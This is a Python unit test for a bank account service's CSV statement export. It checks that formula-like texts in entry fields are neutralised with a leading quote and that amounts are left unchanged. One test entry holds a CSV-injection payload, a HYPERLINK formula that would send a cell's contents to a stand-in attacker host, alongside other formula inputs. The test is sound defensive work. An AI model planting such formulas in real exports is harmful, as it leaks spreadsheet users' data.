"""A statement's CSV cannot carry a formula another person wrote into someone's spreadsheet: the
texts a payer or payee chose are neutralised, the amounts are not touched."""

from __future__ import annotations

import csv
import io
from datetime import date

from ogpgy.account.v1 import account_service_pb2 as pb
from ogpgy.type.v1 import money_pb2
from services.account.exports import statement_csv


def _eur(amount: str) -> money_pb2.Money:
    return money_pb2.Money(currency_code="EUR", amount=amount)


def test_texts_that_a_spreadsheet_would_run_are_neutralised_and_amounts_are_not() -> None:
    hostile = pb.Entry(
        transfer_id="trf_1",
        description='=HYPERLINK("http://evil.example/?x="&A1,"Refund")',
        amount=_eur("-5.00"),
        balance_after=_eur("-5.00"),
        counterparty_name="@SUM(A1:A9)",
        reference="+1+2",
    )
    plain = pb.Entry(transfer_id="trf_2", description="rent", amount=_eur("1.00"), balance_after=_eur("-4.00"), reference="a-b")
    statement = pb.GetStatementResponse(opening_balance=_eur("0.00"), closing_balance=_eur("-4.00"), entries=[hostile, plain])
    rows = list(csv.DictReader(io.StringIO(statement_csv(statement, date(2026, 6, 1), date(2026, 6, 2)).decode())))
    first, second = rows[1], rows[2]
    assert first["description"].startswith("'=") and first["counterparty_name"] == "'@SUM(A1:A9)"
    assert first["reference"] == "'+1+2"
    assert (first["amount"], first["balance_after"]) == ("-5.00", "-5.00"), "amounts stay numbers"
    assert (second["description"], second["reference"]) == ("rent", "a-b")
